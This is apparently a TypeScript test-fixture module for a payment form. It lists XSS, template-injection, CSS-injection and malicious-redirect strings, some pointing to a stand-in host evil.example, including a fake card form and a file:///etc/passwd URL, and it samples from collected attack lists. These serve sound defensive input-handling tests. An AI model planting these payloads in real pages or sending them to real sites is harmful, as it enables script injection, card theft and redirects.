import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { inRepository } from '../../worker/cli/repository.ts'

/** Texts that would do harm where they are taken for HTML, script, CSS or a template. Each breaks out of another place. */
export const hostileTexts: readonly string[] = [
  // For the shortest members.
  '<b>1',
  '"\'><i>x',
  '</p><a>',
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover=alert(1) style='position:fixed;inset:0' x='",
  '<!--<script>alert(1)//-->',
  '--></title></textarea><iframe srcdoc="<script>parent.alert(1)</script>">',
  '</style><style>*{background:url(//evil.example/x)}</style>',
  '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><input name=card><button>Pay',
  '<a href="javascript:alert(1)" target=_top>Pay here</a>',
  '<details open ontoggle=alert(1)><summary>x</summary>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<template shadowrootmode=open><slot></slot><script>alert(1)</script></template>',
  '<sluice-payment-form></sluice-payment-form><div id=checkout>{}</div>',
  'javascript:alert(1)//',
  'data:text/html,<script>alert(1)</script>',
  '{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {merchant} {amount} $& $1',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62; &amp;amp;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e \\u003cb\\u003e \\x3cb',
  '\u2028\u2029</script\u0020><script>alert(1)</script>',
  '\u202e<b>evil\u202c\u2066\u200f \ufeff',
  '<b \u0000onclick=alert(1)>nothing</b>\u0007',
  '\ud83d\ude00 Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d <i>\u0301\u0301\u0301',
  '＜script＞alert(1)＜/script＞ ‹img›',
  '__proto__ constructor toString </noscript><script>alert(1)</script>',
]

/** What would do harm in place of a colour or a word of the appearance. None of it is one. */
export const hostileStyles: readonly string[] = [
  'red;}*{background:url(//evil.example/x)}',
  'red</style><script>alert(1)</script>',
  'url(//evil.example/x)',
  'url("javascript:alert(1)")',
  'expression(alert(1))',
  'var(--x,url(//evil.example/x))',
  'attr(value)',
  'image-set("//evil.example/x" 1x)',
  'rgb(1,2,3);--surface:red',
  'rgb(var(--x) 2 3)',
  'rgb(calc(1 + 1) 2 3)',
  'red/**/;color:blue',
  'red\n}@import "//evil.example/x";{',
  '#fff\\3c/style\\3e',
  '\\72 ed',
  '#015e63"><img src=x onerror=alert(1)>',
  'outlined"x',
  'light dark',
  'ＲＥＤ',
  'red\u0000',
  'color-mix(in srgb, red, blue)',
  'currentcolor',
  'inherit',
]

/** Where no shopper may be sent after paying, be it that it looks as if it were harmless. */
export const hostileAddresses: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//https://shop.example',
  '\tjavascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'blob:https://shop.example/1',
  'file:///etc/passwd',
  '//evil.example',
  '\\\\evil.example',
  '/\\evil.example',
  'https:evil.example',
  'https://shop.example@evil.example/',
  'https://user:secret@shop.example/',
  'http://shop.example/thanks',
  'http://localhost.evil.example/',
  'http://localhost@evil.example/',
  'https://shop.example\\@evil.example/',
  'ftp://shop.example/',
  'about:blank',
  'https://',
  'shop.example',
]

/** Lists that others have collected, as far as this machine has them; the tests do without. */
const lists = inRepository('../shared/attacks')

/** Every text in a list, however deep. What says where a list is from is one, too. */
const textsIn = (value: unknown): string[] => {
  if (typeof value === 'string') return [value]
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : []
}

/**
 * As many texts of a collected list as were asked for, evenly from all of it.
 *
 * @param name of its file
 * @returns none where the list is not there
 */
export const collected = (name: string, most: number): string[] => {
  const file = join(lists, `${name}.json`)
  if (!existsSync(file)) return []
  const all = [...new Set(textsIn(JSON.parse(readFileSync(file, 'utf8'))))].filter((text) => text.isWellFormed())
  const step = Math.max(1, all.length / most)
  return Array.from({ length: Math.min(most, all.length) }, (_, index) => all[Math.floor(index * step)]!)
}
